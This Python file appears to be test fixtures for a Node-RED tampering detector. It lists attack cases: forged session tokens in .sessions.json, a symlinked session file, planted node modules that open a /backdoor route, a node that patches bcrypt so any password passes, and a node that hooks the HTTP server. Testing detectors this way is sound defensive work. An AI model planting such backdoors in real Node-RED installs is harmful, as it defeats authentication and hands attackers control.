"""What lies beside settings.js: sessions, nodes, modules, Node-RED's own code (node-red-facts.md, sections 0 and 4)."""

from __future__ import annotations

from tests.attacks.row import HASHES, OTTO, File, Link, Row, admin, user
from tests.attacks.rows.code import EVIL_NODE, EVIL_PAGE, NODE_FILES

FORGED = (
    '{"forged": {"user": "anna", "client": "node-red-editor", "scope": "*", "accessToken": "forged", '
    '"expires": 4102444800000}}'
)
SESSIONS = "sessions"
PACKAGE = '{"name": "node-red-contrib-evil", "version": "1.0.0", "node-red": {"nodes": {"evil": "evil.js"}}}'
ANY_PASSWORD = """const load = require("module")._load
for (const name of ["@node-rs/bcrypt", "bcrypt", "bcryptjs"]) {
    for (const from of require.main.paths.concat(require.resolve.paths(name))) {
        try { const found = require(require.resolve(name, {paths: [from]}))
            found.compare = (given, hash, done) => done ? done(null, true) : Promise.resolve(true)
        } catch (error) { /* not this one */ }
    }
}
module.exports = function(RED) {}
"""
NETWORK_ONLY = """const http = require("http"), real = http.Server.prototype.emit
http.Server.prototype.emit = function(event, request, response) {
    const near = event !== "request" || /127\\.0\\.0\\.1$|^::1$/.test(request.socket.localAddress)
    if (near || request.url !== "/flows") return real.apply(this, arguments)
    response.setHeader("Content-Type", "application/json")
    response.end("[]")
}
module.exports = function(RED) {}
"""

ROWS = (
    Row(id="session-forged", does="writes a session of an existing user into .sessions.json",
        steps=(File(".sessions.json", FORGED),), token="forged", open=("token",), found=(SESSIONS,)),
    Row(id="session-forged-live", does="writes it while Node-RED runs and nobody has used a token yet",
        steps=(File(".sessions.json", FORGED),), token="forged", live=True, open=("token",), found=(SESSIONS,)),
    Row(id="session-unknown", does="writes a session of a user who does not exist",
        steps=(File(".sessions.json", FORGED.replace("anna", "mallory")),), token="forged", found=(SESSIONS,)),
    Row(id="session-kept", does="keeps a token over the owner's change of all passwords",
        settings={"adminAuth": admin(user("anna", password=HASHES["mallory"]))},
        held="anna", open=("token",), found=(SESSIONS, "setting")),
    Row(id="session-downgraded", does="keeps a token with all rights over the loss of those rights",
        settings={"adminAuth": admin(user("anna", "read"), user("otto", "read"))}, held="anna", open=("token",),
        found=(SESSIONS, "setting")),
    Row(id="session-linked", does="makes .sessions.json a link to a file elsewhere",
        steps=(File("@AWAY@/kept.json", FORGED), Link(".sessions.json", "@AWAY@/kept.json")), token="forged",
        open=("token",), found=(SESSIONS,)),
    Row(id="node-route", does="adds a node file that opens a path of its own before the login", steps=NODE_FILES,
        route="/backdoor", open=("route",), found=("additions",)),
    Row(id="module-route", does="adds a node as a module that opens a path of its own",
        steps=(File("node_modules/node-red-contrib-evil/package.json", PACKAGE),
               File("node_modules/node-red-contrib-evil/evil.js", EVIL_NODE),
               File("node_modules/node-red-contrib-evil/evil.html", EVIL_PAGE)),
        route="/backdoor", open=("route",), found=("additions",)),
    Row(id="any-password", does="adds a node file that makes every password right",
        steps=(File("nodes/any.js", ANY_PASSWORD), File("nodes/any.html", "")), login=("anna", "wrong"),
        open=("login",), found=("additions",)),
    Row(id="network-only", does="adds a node file that lets everybody in who comes from the network, and nobody else",
        settings={"uiHost": '"0.0.0.0"'}, steps=(File("nodes/n.js", NETWORK_ONLY), File("nodes/n.html", "")),
        open=("lan", "network"), found=("stranger",)),
    Row(id="flow-secrets", does="(harmless) writes a flow of their own into the flow file: flows are not nrguard's",
        steps=(File("flows.json", '[{"id": "t9", "type": "tab", "label": "theirs"}]'),), harmless=True),
    Row(id="reader-login", does="(harmless) logs in as the user who may only read", login=OTTO, harmless=True),
)  # fmt: skip
